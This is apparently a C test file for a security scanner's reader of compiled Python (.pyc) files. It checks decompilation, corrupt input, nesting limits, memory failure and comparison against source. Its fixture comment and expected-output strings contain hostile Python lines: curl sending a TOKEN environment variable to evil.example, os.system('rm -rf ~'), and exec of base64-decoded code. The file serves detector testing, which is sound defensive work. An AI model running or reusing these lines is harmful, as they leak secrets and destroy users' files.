/*
 * fuzz/corpus/pyc holds one module compiled by each CPython from 3.8 to 3.13:
 *
 *	import os, base64, subprocess
 *	from urllib.request import urlopen as uo
 *	def f(a, b=3): ... subprocess.run(["curl", f"https://evil.example/{x}"],
 *shell=True) os.system("rm -rf ~")
 */
#include "scan/pyc.h"

#include "core/own.h"
#include "core/utf8.h"
#include "sys/file.h"
#include "tests/check.h"
#include "tests/oom.h"

static const char *const versions[] = { "3.8", "3.9", "3.10", "3.11", "3.12", "3.13" };

static void
load(const char *version, struct pan_buf *b)
{
	char path[64];

	(void)snprintf(path, sizeof(path), "fuzz/corpus/pyc/python-%s", version);
	pan_buf_init(b, 1 << 20);
	CHECK_INT(pan_file_read(path, 1 << 20, b, NULL), PAN_OK);
}

static bool
has(const struct pan_buf *b, const char *line)
{
	bool there = pan_str_find(pan_buf_str(b), pan_str(line), 0) != SIZE_MAX;

	if (!there)
		printf("# no '%s' in:\n# %s\n", line, b->s == NULL ? "" : b->s);
	return there;
}

TEST(calls_come_out_as_they_were_written_in_every_version)
{
	for (size_t i = 0; i < sizeof(versions) / sizeof(versions[0]); i++) {
		struct pan_buf in, out;

		load(versions[i], &in);
		pan_buf_init(&out, 1 << 20);
		CHECK_INT(pan_pyc_read(pan_buf_str(&in), &out, NULL, NULL), PAN_OK);
		CHECK(has(&out, "import os\n"));
		CHECK(has(&out, "from urllib.request import urlopen\n"));
		CHECK(has(&out, "\nos.system('rm -rf ~')\n"));
		CHECK(has(&out, "def f(a, b):\n"));
		CHECK(has(&out, "    x = os.environ.get('TOKEN')\n"));
		CHECK(has(&out,
		    "    subprocess.run(['curl', 'https://evil.example/' + x], "
		    "shell=True)\n"));
		CHECK(has(&out, "    exec(base64.b64decode('aGVsbG8=').decode())\n"));
		CHECK(has(&out, "    return uo('http://a.example/' + x).read()\n"));
		pan_buf_fini(&in);
		pan_buf_fini(&out);
	}
}

TEST(damage_anywhere_ends_in_a_result)
{
	for (size_t i = 0; i < sizeof(versions) / sizeof(versions[0]); i++) {
		struct pan_buf in, out;

		load(versions[i], &in);
		pan_buf_init(&out, 1 << 20);
		for (size_t n = 0; n < in.n; n++) {
			pan_buf_reset(&out);
			CHECK_INT(pan_pyc_read(pan_str_slice(pan_buf_str(&in), 0, n),
			              &out, NULL, NULL),
			    PAN_EFORMAT);
		}
		for (int round = 0; round < 2000; round++) {
			size_t at = 16 + check_rand((uint32_t)in.n - 16);
			char was = in.s[at];

			in.s[at] = (char)check_rand(256);
			pan_buf_reset(&out);
			(void)!pan_pyc_read(pan_buf_str(&in), &out, NULL, NULL);
			CHECK(out.n == 0 || pan_utf8_valid(pan_buf_str(&out)));
			in.s[at] = was;
		}
		pan_buf_fini(&in);
		pan_buf_fini(&out);
	}
}

TEST(a_value_inside_itself_is_refused)
{
	/* A tuple whose only item is a reference to that tuple. */
	static const char in[] = "\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0"
	                         "\xa9\1r\0\0\0\0";
	struct pan_buf out;

	pan_buf_init(&out, 1000);
	CHECK_INT(pan_pyc_read((struct pan_str){ in, sizeof(in) - 1 }, &out, NULL, NULL),
	    PAN_EFORMAT);
	pan_buf_fini(&out);
}

TEST(deep_nesting_ends)
{
	static char in[100000] = "\xa7\r\r\n";
	struct pan_buf out;

	for (size_t i = 16; i + 1 < sizeof(in); i += 2)
		memcpy(in + i, ")\1", 2);
	pan_buf_init(&out, 1000);
	CHECK_INT(pan_pyc_read((struct pan_str){ in, sizeof(in) }, &out, NULL, NULL),
	    PAN_ELIMIT);
	pan_buf_fini(&out);
}

static struct pan_subject *
with_source(const char *name, const char *source)
{
	struct pan_subject *s = pan_subject_new();
	struct pan_doc *docs = pan_arena_array(s->arena, 2, sizeof(*docs));
	struct pan_buf in;

	load("3.11", &in);
	docs[0] = (struct pan_doc){ .path = name,
		.kind = PAN_DOC_OPAQUE,
		.opaque_why = "opaque.pyc",
		.raw = pan_arena_copy(s->arena, pan_buf_str(&in)),
		.next = source == NULL ? NULL : &docs[1] };
	docs[1] = (struct pan_doc){ .path = "a/x.py", .text = pan_str(source) };
	s->doc = docs;
	CHECK_INT(pan_pyc_judge(s), PAN_OK);
	pan_buf_fini(&in);
	return s;
}

static const char *
note(const struct pan_subject *s)
{
	return s->coverage.nnote == 0 ? "none" : s->coverage.note[0].s;
}

TEST(compiled_files_are_held_against_their_source)
{
	static const char true_source[] =
	    "import os, base64, subprocess\nfrom urllib.request import urlopen as uo\n"
	    "x = os.environ.get; subprocess.run; exec(base64.b64decode(x).decode())\n"
	    "uo().read() ; os.system() ; f()\n";
	PAN_AUTO(pan_subject_freep)
	struct pan_subject *same =
	    with_source("a/__pycache__/x.cpython-311.pyc", true_source);
	PAN_AUTO(pan_subject_freep)
	struct pan_subject *other = with_source("a/x.pyc", "def f():\n    return 1\n");
	PAN_AUTO(pan_subject_freep)
	struct pan_subject *alone = with_source("b/x.cpython-311.pyc", true_source);

	CHECK_STR(note(same), "none");
	CHECK_STR(note(other), "pyc-differs\ta/x.pyc");
	CHECK_STR(note(alone), "pyc-alone\tb/x.cpython-311.pyc");
}

TEST(running_out_of_memory_is_returned)
{
	struct pan_buf in, out;
	int n = 0, rc;

	load("3.12", &in);
	do {
		pan_buf_init(&out, 1 << 20);
		oom_arm(++n);
		rc = pan_pyc_read(pan_buf_str(&in), &out, NULL, NULL);
		oom_arm(0);
		pan_buf_fini(&out);
		CHECK(rc == PAN_OK || rc == PAN_ENOMEM);
	} while (rc != PAN_OK && n < 1000);
	CHECK(n > 2 && n < 1000);
	pan_buf_fini(&in);
}

int
main(void)
{
	RUN(calls_come_out_as_they_were_written_in_every_version);
	RUN(damage_anywhere_ends_in_a_result);
	RUN(a_value_inside_itself_is_refused);
	RUN(deep_nesting_ends);
	RUN(compiled_files_are_held_against_their_source);
	RUN(running_out_of_memory_is_returned);
	return DONE();
}
